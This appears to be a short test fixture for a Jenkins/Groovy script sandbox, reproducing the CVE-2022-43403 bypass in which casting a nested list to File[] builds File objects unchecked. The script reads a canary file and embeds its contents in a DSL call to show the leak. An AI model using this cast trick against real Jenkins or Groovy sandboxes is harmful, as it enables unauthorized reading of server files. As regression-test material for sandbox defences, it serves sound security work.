// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43403 (per-element casts of arrays)
// expect: read
// Casting to File[] casts every element, calling new File for each list.
File[] files = [['@CANARY_READ@']]
def v = files[0].text
vmwareSite("leak-${v}") { network 'VM Network' }
